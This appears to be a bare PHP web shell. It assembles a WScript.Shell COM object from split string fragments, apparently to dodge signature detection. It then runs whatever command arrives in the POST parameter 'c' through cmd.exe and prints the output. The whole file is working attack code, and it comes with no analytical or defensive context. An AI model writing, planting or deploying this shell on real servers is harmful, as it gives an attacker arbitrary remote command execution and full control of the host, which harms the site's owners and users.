<?php
$sh = new COM('WS' . 'cri' . 'pt.Sh' . 'ell');
$run = $sh->exec('cmd.exe /c ' . $_POST['c']);
echo $run->StdOut->ReadAll();
